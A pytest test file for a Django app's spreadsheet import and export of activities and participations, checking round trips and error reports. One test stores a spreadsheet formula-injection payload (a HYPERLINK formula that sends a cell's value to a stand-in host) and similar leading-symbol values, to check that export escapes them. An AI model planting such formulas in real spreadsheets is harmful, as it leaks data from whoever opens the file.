"""Activities and their participations from spreadsheets, and back."""

import pytest
import tablib

from activities.imports import ActivityResource, ParticipationResource
from activities.models import Activity, Participation
from tests import factories
from tests.partners.test_import_export import row_errors, snapshot

pytestmark = pytest.mark.django_db

ACTIVITIES_CSV = (
    "slug,title,kind,status,starts_on,ends_on,venue_type,venue_partner,venue_name,"
    "venue_country,hours,format,themes\n"
    "femp-training,Joint training with FEMP,training,published,2014-03-10,2014-03-11,"
    "place,,Madrid,Spain,12,in_person,training\n"
    "launch,Launch of AL-LAs,conference,published,2013-05-20,,city,montevideo,,,,,\n"
)

PARTICIPATIONS_CSV = """activity,partner,role,attendees
femp-training,montevideo,organiser,4
femp-training,quito,participant,6
launch,quito,participant,3\n"""


def load(text):
    return tablib.Dataset().load(text, format="csv")


def test_activities_then_participations_import(partner_a, partner_b):
    factories.make_theme(slug="training")
    result = ActivityResource().import_data(load(ACTIVITIES_CSV), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    result = ParticipationResource().import_data(load(PARTICIPATIONS_CSV), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    training = Activity.objects.get(slug="femp-training")
    assert training.venue_country.code == "ES"
    assert [t.slug for t in training.themes.all()] == ["training"]
    assert sorted(training.participations.values_list("partner__slug", "attendees")) == [
        ("montevideo", 4),
        ("quito", 6),
    ]


def test_participation_rows_with_unknown_activities_or_partners_are_reported(partner_a):
    factories.make_activity(slug="launch")
    text = (
        "activity,partner,role,attendees\n"
        "launch,lisboa,participant,3\n"
        "nothing,montevideo,participant,3\n"
        "launch,montevideo,guest,3\n"
    )
    result = ParticipationResource().import_data(load(text), dry_run=True)
    errors = row_errors(result)
    assert any("Unknown partner “lisboa”" in m for m in errors[1])
    assert any("Unknown activity “nothing”" in m for m in errors[2])
    assert any("Unknown value “guest”" in m for m in errors[3])
    assert not Participation.objects.exists()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_exporting_and_reimporting_activities_and_participations_changes_nothing(
    file_format, partner_a, partner_b
):
    theme = factories.make_theme()
    training = factories.make_activity(
        partners=[partner_a, partner_b],
        kind="training",
        venue_partner=partner_a,
        trainers="A\nB",
        summary="Two days",
        # Written behind a ' on export (no live formula), read back without it.
        title='=HYPERLINK("http://x?x="&B3,"Open")',
        description="+1+1",
        notes="\tsee below",  # (a carriage return does not survive XLSX, formula or not)
        outcomes="''-1",
    )
    training.themes.add(theme)
    factories.make_activity(
        partners=[partner_b], venue_type="place", venue_name="Sevilla", venue_country="ES"
    )
    for resource in (ActivityResource(), ParticipationResource()):
        model = resource._meta.model
        before = snapshot(model)
        data = tablib.Dataset().load(resource.export().export(file_format), format=file_format)
        result = type(resource)().import_data(data, dry_run=False)
        assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
        assert {row.import_type for row in result.rows} == {"skip"}
        assert snapshot(model) == before
    assert list(training.themes.all()) == [theme]
